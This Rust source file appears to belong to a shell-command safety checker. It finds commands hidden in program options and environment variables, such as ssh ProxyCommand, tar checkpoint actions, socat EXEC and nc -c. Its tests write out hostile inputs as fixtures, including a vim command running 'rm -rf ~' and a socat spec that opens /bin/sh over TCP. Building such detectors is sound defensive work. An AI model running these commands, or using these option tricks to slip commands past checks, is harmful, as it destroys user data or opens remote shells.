//! Commands hidden in options and variables: an editor's `-c '!cmd'`, `man -P`, ssh's
//! `ProxyCommand`, `rsync -e`, tar's `--to-command` and `--checkpoint-action=exec=`,
//! `zip -TT`, sed's `e` command, gdb's `shell`, expect's `spawn`, socat's `EXEC:`, `nc -c`,
//! `fd -x`, git's `ext::` URLs, `submodule foreach`, `rebase --exec`, `bisect run`,
//! `filter-branch`, `difftool -x`, and the variables programs run as commands (`EDITOR`,
//! `PAGER`, `GIT_SSH_COMMAND`, `LESSOPEN`, `GIT_CONFIG_*`, …).
//!
//! Each becomes follow-up work (the command line it runs), so every rule applies to it as if
//! it had been written plainly.
//!
//! Owns: which reader each program's options go to, the variables programs run as commands
//! (`COMMAND_VARIABLES`), and the options read in place with `option_values` (`man -P`,
//! `rsync -e`, `cpio --rsh-command`, `zip -TT`, `nc -c`). The readers of larger families have
//! a file each: `editors` (vi, ex, ed), `ssh` (ssh's `-o` commands, sftp batches), `sed`,
//! `git`, `databases` (sqlite3, psql, mysql), `languages` (interpreters whose code is not
//! scanned) and `tools` (tar, gdb, expect, socat, fd). Must not touch: walking the commands
//! found (the walker follows them as written commands) or judging them (the rules do).

mod databases;
mod editors;
mod git;
mod languages;
mod sed;
mod ssh;
mod tools;

use super::builtins::Nested;
use super::{Command, Ctx, Stdin, Walker, UNKNOWN};
use databases::client_commands;
use editors::{editor_texts, ex_commands, ex_shell_commands};
use git::{git_commands, git_reads};
use languages::{program_matches, unscanned_code, UNSCANNED_LANGUAGES};
use sed::sed_script;
use ssh::{sftp_batch, ssh_commands};
use tools::{expect_commands, fd_exec, gdb_commands, socat_commands, tar_commands};

/// Variables whose value a program runs as a command line.
const COMMAND_VARIABLES: &[&str] = &[
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "GIT_PAGER",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EXTERNAL_DIFF",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "GIT_PROXY_COMMAND",
    "BROWSER",
    "LESSOPEN",
    "LESSCLOSE",
    "RSYNC_RSH",
    "CVS_RSH",
    "PROMPT_COMMAND",
];

impl Walker<'_> {
    /// The command lines `cmd`'s options and variables make it run.
    pub(super) fn option_commands(&mut self, cmd: &mut Command, ctx: &Ctx) -> Vec<Nested> {
        let mut out = Vec::new();
        // Moved out and back (not copied): this runs for every command of every event.
        let assigns = std::mem::take(&mut cmd.assigns);
        let args = std::mem::take(&mut cmd.args);
        let assigned = |name: &str| {
            ctx.variable(&assigns, name)
                .map(|v| v.unwrap_or_else(|| UNKNOWN.to_string()))
        };
        for name in COMMAND_VARIABLES {
            if let Some(value) = assigned(name) {
                out.push(variable_command(name, &value));
            }
        }
        let scripts: Vec<String> = match cmd.program.as_str() {
            "vim" | "vi" | "nvim" | "view" | "vimdiff" | "ex" | "gvim" | "rvim" | "rview" => {
                let mut texts = editor_texts(&args);
                // `ex FILE <<< '…'`, `vim -es < cmds`: ex commands read from stdin.
                let ex_mode = cmd.program == "ex"
                    || args
                        .iter()
                        .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('e'));
                if let (true, Stdin::Literal(text)) = (ex_mode, &cmd.stdin) {
                    texts.push(text.clone());
                }
                ex_commands(cmd, &texts, &mut out);
                ex_shell_commands(&texts)
            }
            // ed's commands come from stdin: `!cmd`, `r FILE`, `w FILE`, `e !cmd`.
            "ed" | "red" => match &cmd.stdin {
                Stdin::Literal(text) => {
                    let texts = [text.clone()];
                    ex_commands(cmd, &texts, &mut out);
                    ex_shell_commands(&texts)
                }
                _ => Vec::new(),
            },
            "man" => {
                let mut v = option_values(&args, &["-P", "--pager"]);
                // `-HBROWSER` / `--html=BROWSER` (glued only: a bare `-H` uses $BROWSER).
                v.extend(args.iter().filter_map(|a| {
                    a.strip_prefix("--html=")
                        .or_else(|| a.strip_prefix("-H").filter(|b| !b.is_empty()))
                        .map(str::to_owned)
                }));
                v
            }
            "ssh" | "scp" => ssh_commands(&args),
            "sftp" => {
                let mut v = ssh_commands(&args);
                v.extend(sftp_batch(cmd, &args));
                v
            }
            "rsync" => option_values(&args, &["-e", "--rsh"]),
            "tar" | "gtar" => tar_commands(&args),
            "cpio" => option_values(&args, &["--rsh-command"]),
            "sqlite3" | "psql" | "mysql" | "mariadb" => client_commands(cmd, &args),
            p if UNSCANNED_LANGUAGES.iter().any(|l| program_matches(l, p)) => {
                unscanned_code(cmd, &args);
                Vec::new()
            }
            "zip" => option_values(&args, &["-TT", "--unzip-command"]),
            "sed" | "gsed" => sed_script(cmd, &args),
            "gdb" => gdb_commands(&args, &mut out),
            "expect" => expect_commands(&args),
            "socat" => socat_commands(&args),
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
                let mut v = option_values(&args, &["-c", "--sh-exec"]);
                v.extend(option_values(&args, &["-e", "--exec"]));
                v
            }
            "fd" | "fdfind" => {
                out.extend(fd_exec(&args).map(Nested::Argv));
                Vec::new()
            }
            "git" => {
                git_reads(cmd, &args);
                git_commands(&args, &assigned, &mut out)
            }
            _ => Vec::new(),
        };
        cmd.args = args;
        cmd.assigns = assigns;
        out.extend(scripts.into_iter().map(Nested::Script));
        out
    }
}

/// The command line a variable's value stands for: `LESSOPEN='|cmd %s'` runs `cmd FILE`.
fn variable_command(name: &str, value: &str) -> Nested {
    let text = if name.starts_with("LESS") {
        value.trim_start_matches(['|', '-']).replace("%s", "./*")
    } else {
        value.to_owned()
    };
    Nested::Script(text)
}

/// The values of `flags` (`-P CMD`, `-PCMD` for one-letter flags, `--pager=CMD`).
fn option_values(args: &[String], flags: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if flags.contains(&a.as_str()) {
            out.extend(it.next().cloned());
        } else if let Some(v) = flags.iter().find_map(|f| {
            if f.starts_with("--") {
                a.strip_prefix(&format!("{f}="))
            } else if f.len() == 2 {
                a.strip_prefix(f)
                    .filter(|v| !v.is_empty() && !a.starts_with("--"))
            } else {
                None
            }
        }) {
            out.push(v.to_owned());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    use super::editors::editor_commands;

    pub(super) fn strings(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| (*s).to_owned()).collect()
    }

    pub(super) fn with_stdin(program: &str, stdin: Option<&str>) -> Command {
        Command {
            program: program.to_owned(),
            stdin: stdin.map_or(Stdin::Inherited, |s| Stdin::Literal(s.to_owned())),
            ..Command::default()
        }
    }

    #[test]
    fn editors_ssh_tar_and_socat_name_the_commands_they_run() {
        assert_eq!(
            editor_commands(&strings(&["-c", ":!rm -rf ~", "+call system('id')", "x"])),
            ["rm -rf ~", "id"]
        );
        assert!(editor_commands(&strings(&["-c", "wq", "+10", "f"])).is_empty());
        assert_eq!(
            ssh_commands(&strings(&[
                "-o",
                "ProxyCommand=sh -c 'id'",
                "-oLocalCommand id2",
                "h"
            ])),
            ["exec sh -c 'id'", "id2"]
        );
        assert!(ssh_commands(&strings(&["-o", "ProxyCommand=none", "-o", "Port=22"])).is_empty());
        assert_eq!(
            tar_commands(&strings(&[
                "-xf",
                "a.tar",
                "--to-command=sh -c x",
                "--checkpoint=1",
                "--checkpoint-action=exec=id",
            ])),
            ["sh -c x", "id"]
        );
        assert_eq!(
            socat_commands(&strings(&["TCP:1.2.3.4:9", "EXEC:/bin/sh,pty,stderr"])),
            ["/bin/sh"]
        );
    }
}
